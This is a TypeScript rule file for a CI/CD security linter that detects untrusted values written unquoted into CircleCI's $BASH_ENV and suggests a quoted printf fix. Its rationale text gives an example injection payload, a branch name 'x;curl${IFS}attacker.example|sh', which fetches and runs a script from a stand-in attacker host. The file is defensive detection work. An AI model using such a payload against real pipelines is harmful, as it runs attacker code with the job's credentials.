import type { ScriptRun } from "../../src/rule/audit.ts";
import { defineRule, type Reported } from "../../src/rule/rule.ts";
import type { CommandFact } from "../../src/shell/facts.ts";
import { scriptsByFacts } from "../data/scripts-by-facts.ts";
import { bashEnvWritesOf } from "../data/untrusted/bash-env-writes.ts";
import { isReadAtRunTime, outputOriginsOf } from "../data/untrusted/origins.ts";
import { untrustedReads, type UntrustedRead } from "../data/untrusted/reads.ts";
import { isTestedBefore, testedFirst } from "./tested.ts";
import { gainOf, jobOf, maySayAnything, nameOfRead, wayTo } from "./wording.ts";

export const bashEnvInjection = defineRule({
  meta: {
    id: "bash-env-injection",
    title: "Untrusted text is written into $BASH_ENV",
    summary: "A value that somebody else chooses is written as it is into the file that every later step sources.",
    rationale:
      "CircleCI runs `$BASH_ENV` as a script at the start of every later step. A value that is pasted into it is code by then: a branch named " +
      "`x;curl${IFS}attacker.example|sh` or a commit message with `$(…)` in it runs with everything the job holds, and the step that wrote it shows nothing unusual.",
    remediation:
      'Write the value quoted for the shell: `printf \'export NAME=%q\\n\' "$VALUE" >> "$BASH_ENV"`. What CircleCI sets anyway need not be copied: write `\'export NAME="$CIRCLE_BRANCH"\'` in single quotes, so that the variable is read when the file is.',
    limits:
      "Values are followed through variables, `$( )` and text filters. What other programs print into the file, and files that are appended to it, are not known.",
    severity: "high",
    confidence: "medium",
    profile: "regular",
    data: "config",
    tags: { owasp: ["CICD-SEC-4"], cwe: ["CWE-77", "CWE-454"] },
    references: [
      {
        title: "CircleCI: environment variables through BASH_ENV",
        url: "https://circleci.com/docs/guides/security/set-environment-variable/#set-an-environment-variable-in-a-shell-command",
      },
      { title: "CWE-454: external initialisation of trusted variables", url: "https://cwe.mitre.org/data/definitions/454.html" },
    ],
    since: "0.2.0",
  },
  *check(audit) {
    for (const [facts, scripts] of scriptsByFacts(audit.scripts)) {
      for (const { command } of bashEnvWritesOf(facts)) {
        const origins = outputOriginsOf(command, facts).filter(isReadAtRunTime);
        for (const script of origins.length === 0 ? [] : scripts) {
          for (const read of untrustedReads(origins, script, audit).filter(maySayAnything)) yield report(read, script, command);
        }
      }
    }
  },
});

function report(read: UntrustedRead, script: ScriptRun, command: CommandFact): Reported {
  const { run, step, facts, locate } = script;
  const { source, origin } = read;
  const isTested = isTestedBefore(read, command, facts);
  const value = origin.variable === undefined ? `$(${source.name} …)` : `$${origin.variable}`;
  return {
    at: locate(read.span),
    ...(source.level === "limited" ? { severity: "low" } : {}),
    ...(isTested ? { confidence: "low" } : {}),
    message:
      `${nameOfRead(read)} is written as it is into \`$BASH_ENV\`, which every later step of ${jobOf(run)} runs` +
      `${gainOf(source)}${isTested ? testedFirst : ""}`,
    replacement: `printf 'export NAME=%q\\n' "${value}" >> "$BASH_ENV"`,
    trace: wayTo(read, script, "it is written into `$BASH_ENV` here"),
    route: { run, hops: step.hops },
  };
}
